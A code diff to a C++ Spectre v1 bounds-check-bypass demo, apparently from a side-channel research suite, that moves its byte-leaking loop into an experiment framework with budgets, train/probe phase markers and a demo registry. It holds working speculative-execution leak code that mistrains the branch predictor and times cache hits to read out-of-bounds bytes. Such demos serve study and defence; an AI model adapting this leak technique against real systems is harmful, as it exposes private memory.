@@ -20,6 +20,8 @@
 #include <iostream>
 #include <memory>
 
+#include "demo_registry.h"
+#include "experiment.h"
 #include "instr.h"
 #include "local_content.h"
 #include "timing_array.h"
@@ -33,8 +35,9 @@
 // Instead, the leak is performed by accessing out-of-bounds during speculative
 // execution, bypassing the bounds check by training the branch predictor to
 // think that the value will be in-range.
-static char LeakByte(const char *data, size_t offset) {
-  TimingArray timing_array;
+static ExperimentOutcome LeakByte(TimingArray &timing_array, const char *data,
+                                  size_t offset,
+                                  const ExperimentBudget &budget) {
   // The size needs to be unloaded from cache to force speculative execution
   // to guess the result of comparison.
   //
@@ -43,13 +46,16 @@ static char LeakByte(const char *data, size_t offset) {
   std::unique_ptr<size_t> size_in_heap = std::unique_ptr<size_t>(
       new size_t(strlen(data)));
 
-  for (int run = 0;; ++run) {
+  return RunExperiment(budget, [&](int run) {
     timing_array.FlushFromCache();
     // We pick a different offset every time so that it's guaranteed that the
     // value of the in-bounds access is usually different from the secret value
     // we want to leak via out-of-bounds speculative access.
     int safe_offset = run % strlen(data);
 
+    // The last iteration is the trigger. Marking it apart would change the
+    // branch history it is predicted with, so it counts as training.
+    MarkPhase(ExperimentPhase::kTrain);
     // Loop length must be high enough to beat branch predictors.
     // The current length 2048 was established empirically. With significantly
     // shorter loop lengths some branch predictors are able to observe the
@@ -78,28 +84,28 @@ static char LeakByte(const char *data, size_t offset) {
       }
     }
 
+    MarkPhase(ExperimentPhase::kProbe);
     int ret = timing_array.FindFirstCachedElementIndexAfter(data[safe_offset]);
-    if (ret >= 0 && ret != data[safe_offset]) {
-      return ret;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge" << std::endl;
-      exit(EXIT_FAILURE);
-    }
-  }
+    return std::make_pair(ret >= 0 && ret != data[safe_offset],
+                          static_cast<char>(ret));
+  });
 }
 
-int main() {
-  std::cout << "Leaking the string: ";
-  std::cout.flush();
+static void RunDemo(DemoContext &context) {
+  TimingArray &timing_array = context.timing_array();
+  context.BeginLeak(private_data);
   const size_t private_offset = private_data - public_data;
   for (size_t i = 0; i < strlen(private_data); ++i) {
     // On at least some machines, this will print the i'th byte from
     // private_data, despite the only actually-executed memory accesses being
     // to valid bytes in public_data.
-    std::cout << LeakByte(public_data, private_offset + i);
-    std::cout.flush();
+    ExperimentOutcome outcome = LeakByte(
+        timing_array, public_data, private_offset + i, context.budget());
+    if (!context.ReportByte(outcome)) {
+      break;
+    }
   }
-  std::cout << "\nDone!\n";
+  context.EndLeak();
 }
+
+SAFESIDE_REGISTER_DEMO(spectre_v1_pht_sa, RunDemo);